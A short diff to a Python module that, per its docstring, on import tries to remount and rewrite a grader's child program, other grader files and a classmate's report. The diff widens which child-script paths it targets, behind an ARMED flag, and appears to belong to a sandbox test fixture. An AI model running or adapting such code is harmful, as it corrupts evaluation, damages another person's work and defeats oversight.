@@ -1,4 +1,4 @@
-"""At import, tries to rewrite the grader's child script (found through sys.argv[0]), other grader files and a classmate's report; under bubblewrap it first tries to remount them writable."""
+"""At import, tries to rewrite the grader's child program (a file of it found through sys.argv[0]), other grader files and a classmate's report; under bubblewrap it first tries to remount them writable."""
 
 import os as _os
 import sys as _sys
@@ -33,7 +33,7 @@ def _rewrite(path):
 
 _targets = list(TARGETS)
 _argv0 = _sys.argv[0] if _sys.argv else ""
-if _argv0.endswith("_child.py") and ARMED:
+if _argv0.endswith(".py") and "_child" in _argv0 and ARMED:
     _targets.append(_argv0)
 for _path in _targets:
     _rewrite(_path)
